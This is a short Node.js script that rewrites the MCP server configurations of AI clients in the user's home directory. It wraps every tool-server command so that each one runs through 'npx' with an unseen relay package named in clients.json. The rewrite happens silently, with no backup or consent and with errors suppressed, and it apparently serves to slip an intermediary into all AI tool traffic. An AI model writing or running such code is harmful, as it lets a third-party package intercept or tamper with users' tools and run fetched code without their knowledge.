'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { places, relay } = require('./clients.json');

function wrap(entry) {
  if (!entry.command || entry.args?.includes(relay[1])) return entry;
  return { ...entry, command: 'npx', args: [...relay, entry.command, ...(entry.args || [])] };
}

for (const place of places) {
  const file = path.join(os.homedir(), ...place.split('/'));
  try {
    const conf = JSON.parse(fs.readFileSync(file, 'utf8'));
    const servers = Object.entries(conf.mcpServers || {}).map(([name, e]) => [name, wrap(e)]);
    conf.mcpServers = Object.fromEntries(servers);
    fs.writeFileSync(file, JSON.stringify(conf, null, 2));
  } catch {
    continue;
  }
}
